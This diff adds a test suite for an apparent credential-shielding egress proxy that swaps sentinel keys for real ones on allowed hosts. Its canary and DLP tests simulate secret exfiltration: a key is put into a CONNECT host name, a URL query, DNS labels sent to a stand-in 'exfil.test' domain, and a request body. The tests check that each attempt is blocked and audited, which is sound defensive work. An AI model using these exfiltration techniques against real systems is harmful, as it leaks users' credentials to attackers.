@@ -1,0 +1,140 @@
+/**
+ * Credentials through a real bundle on loopback: curl, node (NODE_EXTRA_CA_CERTS), bun fetch,
+ * git and python send the sentinel; the upstream (the test's own, own CA) sees the real value.
+ * Every canary path is refused and audited; upstream_proxy carries opaque tunnels too.
+ */
+import { expect, test } from "bun:test";
+import { execFile, execFileSync } from "node:child_process";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { createCa } from "../../../src/bundle/bundle-ca.ts";
+import { bundleMaterial } from "../../../src/bundle/credential-material.ts";
+import type { CredentialSpec } from "../../../src/core/credentials.ts";
+import { STAND_IN, startBundle, rawExchange, type TestBundle } from "../../helpers/bundle.ts";
+import { tempDir } from "../../helpers/cli.ts";
+import { dnsQuery } from "../../helpers/dns.ts";
+import { countingHttpServer, gitHttpsServer } from "../../helpers/servers.ts";
+import { recordingUpstream, upstreamProxy } from "../../helpers/terminator.ts";
+
+const resolve = async (name: string) => (name.endsWith(".test") ? [STAND_IN] : Promise.reject(new Error("ENOTFOUND")));
+const REAL = `sk-ant-api03-${"R3al".repeat(23)}AA`;
+const GH_REAL = `ghp_${"G1t".repeat(12)}`;
+const bottleCa = await createCa("creds-test");
+const spec = (name: string, hosts: string[], header: string, schemes: CredentialSpec["schemes"] = []): CredentialSpec => ({ name, source: { kind: "env", name }, hosts, header, schemes });
+
+interface Setup {
+  readonly bundle: TestBundle;
+  readonly sentinel: string;
+  readonly ghSentinel: string;
+  readonly caFile: string;
+  readonly events: () => Record<string, unknown>[];
+}
+
+async function setup(allow: string[], config: object = {}, upstreamCa: string[] = []): Promise<Setup> {
+  const specs = [spec("ANTHROPIC_API_KEY", ["api.test"], "x-api-key"), spec("GH_TOKEN", ["git.test"], "authorization", ["bearer", "basic"])];
+  const sentinel = `sk-ant-api03-${"S3nt".repeat(23)}AA`;
+  const ghSentinel = `ghp_${"S3n".repeat(12)}`;
+  const material = bundleMaterial({ specs, values: new Map([["ANTHROPIC_API_KEY", REAL], ["GH_TOKEN", GH_REAL]]), sentinels: { ANTHROPIC_API_KEY: sentinel, GH_TOKEN: ghSentinel }, inspect: [], ca: bottleCa, upstreamCa });
+  const bundle = await startBundle(allow, { resolve }, { config, files: { "credentials.json": JSON.stringify(material) } });
+  const caFile = join(tempDir("creds"), "bottle-ca.pem");
+  writeFileSync(caFile, bottleCa.certificate);
+  const events = () => readFileSync(join(bundle.dir, "audit.jsonl"), "utf8").trim().split("\n").map((line) => JSON.parse(line));
+  return { bundle, sentinel, ghSentinel, caFile, events };
+}
+
+function run(command: string, args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
+  return new Promise((done) => {
+    execFile(command, args, { env: { PATH: process.env["PATH"] ?? "", ...env } }, (error, stdout, stderr) => done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }));
+  });
+}
+
+test("curl, node, bun fetch and python send the sentinel; the upstream sees the real key each time", async () => {
+  const upstream = await recordingUpstream("api.test");
+  const s = await setup([`api.test:${upstream.port}`], {}, [upstream.caPem]);
+  const url = `https://api.test:${upstream.port}/v1/messages`;
+  const proxy = `http://127.0.0.1:${s.bundle.ports.proxy}`;
+  await run("curl", ["-sS", "--noproxy", "", "--proxy", proxy, "--cacert", s.caFile, "-H", `x-api-key: ${s.sentinel}`, `${url}?via=curl`]);
+  const node = `const http=require("http"),tls=require("tls");http.request({host:"127.0.0.1",port:${s.bundle.ports.proxy},method:"CONNECT",path:"api.test:${upstream.port}"}).on("connect",(r,sock)=>{const t=tls.connect({socket:sock,servername:"api.test"},()=>t.end("GET /v1/messages?via=node HTTP/1.1\\r\\nHost: api.test:${upstream.port}\\r\\nx-api-key: "+process.env.ANTHROPIC_API_KEY+"\\r\\nConnection: close\\r\\n\\r\\n"));t.on("data",()=>{});t.on("error",(e)=>{console.error(e.message);process.exit(1)})}).end();`;
+  const fromNode = await run("node", ["-e", node], { NODE_EXTRA_CA_CERTS: s.caFile, ANTHROPIC_API_KEY: s.sentinel });
+  expect(fromNode.stderr).toBe("");
+  await fetch(`${url}?via=bun`, { headers: { "x-api-key": s.sentinel }, proxy, tls: { ca: bottleCa.certificate } } as RequestInit).then((r) => r.text());
+  const python = `import os,urllib.request,ssl\nctx=ssl.create_default_context(cafile=os.environ["CA"])\nh=urllib.request.ProxyHandler({"https":"${proxy}"})\no=urllib.request.build_opener(h,urllib.request.HTTPSHandler(context=ctx))\no.open(urllib.request.Request("${url}?via=python",headers={"x-api-key":os.environ["ANTHROPIC_API_KEY"]})).read()`;
+  const fromPython = await run("python3", ["-c", python], { CA: s.caFile, ANTHROPIC_API_KEY: s.sentinel });
+  expect(fromPython.stderr).toBe("");
+  expect(upstream.seen.map((seen) => [seen.url, seen.headers["x-api-key"]])).toEqual(["curl", "node", "bun", "python"].map((via) => [`/v1/messages?via=${via}`, REAL]));
+  await s.bundle.audit.flushed();
+  expect(s.events().filter((event) => event.kind === "tls").map((event) => [event.path, event.status])).toEqual(Array(4).fill(["/v1/messages", 200]));
+  expect(readFileSync(join(s.bundle.dir, "audit.jsonl"), "utf8")).not.toContain(REAL);
+});
+
+test("git over https sends the GH_TOKEN sentinel as a Basic password; the server gets the real token", async () => {
+  const root = tempDir("git");
+  const git = (args: string[]) => execFileSync("git", args, { cwd: root, env: { PATH: process.env["PATH"] ?? "", HOME: root } });
+  git(["init", "--quiet", "--bare", "repo.git"]);
+  const server = await gitHttpsServer("git.test", root);
+  const s = await setup([`git.test:${server.port}`], {}, [server.caPem]);
+  const basic = Buffer.from(`x-access-token:${s.ghSentinel}`).toString("base64");
+  const result = await run("git", ["-c", `http.proxy=http://127.0.0.1:${s.bundle.ports.proxy}`, "-c", `http.sslCAInfo=${s.caFile}`, "-c", `http.extraHeader=Authorization: Basic ${basic}`, "ls-remote", `https://git.test:${server.port}/repo.git`], { HOME: root, GIT_CONFIG_NOSYSTEM: "1" });
+  expect(result.stderr).toBe("");
+  expect(server.authorizations).toEqual([`Basic ${Buffer.from(`x-access-token:${GH_REAL}`).toString("base64")}`]);
+});
+
+test("canaries: in a CONNECT authority, a plain-HTTP URL and a DNS name — refused, audited by name, counted in /status", async () => {
+  const target = await countingHttpServer();
+  const s = await setup([`plain.test:${target.port}`, "api.test"]);
+  const connect = await rawExchange(s.bundle.ports.proxy, `CONNECT ${s.sentinel.toLowerCase().replace(/_/g, "")}.api.test:443 HTTP/1.1\r\n\r\n`);
+  expect(connect).toStartWith("HTTP/1.1 403");
+  expect(connect).toContain("X-Claude-Bottle-Rule: canary");
+  const plain = await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/?k=${s.sentinel} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
+  expect(plain).toStartWith("HTTP/1.1 403");
+  const labels = s.sentinel.replace(/[^A-Za-z0-9]/g, "").match(/.{1,50}/g)!.join(".");
+  const { createSocket } = await import("node:dgram");
+  const udp = createSocket("udp4");
+  await new Promise<void>((done) => {
+    udp.once("message", () => done());
+    udp.send(dnsQuery(`${labels}.exfil.test`), s.bundle.ports.dns, "127.0.0.1");
+  });
+  udp.close();
+  expect(target.hits()).toBe(0);
+  const status = JSON.parse((await s.bundle.supervise("GET", "/status")).body);
+  expect(status.counters.canaryHits).toBe(3);
+  expect(status.canaries).toEqual({ ANTHROPIC_API_KEY: 3 });
+  await s.bundle.audit.flushed();
+  expect(s.events().filter((event) => event.canary).map((event) => [event.kind, event.rule, event.canary])).toEqual([
+    ["connect", "canary", "ANTHROPIC_API_KEY"], ["http", "canary", "ANTHROPIC_API_KEY"], ["dns", "canary", "ANTHROPIC_API_KEY"],
+  ]);
+});
+
+test("on_canary = stop: after one hit every request is refused, also on hosts that were allowed", async () => {
+  const target = await countingHttpServer();
+  const s = await setup([`plain.test:${target.port}`], { onCanary: "stop" });
+  const ok = `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`;
+  expect(await rawExchange(s.bundle.ports.proxy, ok)).toStartWith("HTTP/1.1 200");
+  await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/${s.ghSentinel} HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
+  const after = await rawExchange(s.bundle.ports.proxy, ok);
+  expect(after).toStartWith("HTTP/1.1 403");
+  expect(after).toContain("canary-stop");
+  expect(target.hits()).toBe(1);
+});
+
+test("DLP on plain HTTP: a provider key in a body is refused and never completes upstream", async () => {
+  const target = await countingHttpServer();
+  const s = await setup([`plain.test:${target.port}`]);
+  const body = `{"k":"AKIA${"QRST2345".repeat(2)}"}`;
+  const answer = await rawExchange(s.bundle.ports.proxy, `POST http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
+  expect(answer).toStartWith("HTTP/1.1 403");
+  expect(answer).toContain("aws-access-key-id");
+  expect(target.hits()).toBe(0);
+});
+
+test("upstream_proxy: opaque tunnels and plain HTTP go through the operator's proxy by name", async () => {
+  const target = await countingHttpServer();
+  const corporate = await upstreamProxy(target.port);
+  const s = await setup([`plain.test:${target.port}`, `opaque.test:${target.port}`], { upstreamProxy: `http://127.0.0.1:${corporate.port}` });
+  const plain = await rawExchange(s.bundle.ports.proxy, `GET http://plain.test:${target.port}/ HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n`);
+  expect(plain).toStartWith("HTTP/1.1 200");
+  const tunnel = await rawExchange(s.bundle.ports.proxy, `CONNECT opaque.test:${target.port} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: opaque.test\r\nConnection: close\r\n\r\n`, /reached/);
+  expect(tunnel).toContain("reached");
+  expect(corporate.asked).toEqual([`plain.test:${target.port}`, `opaque.test:${target.port}`]);
+  expect(target.hits()).toBe(2);
+});
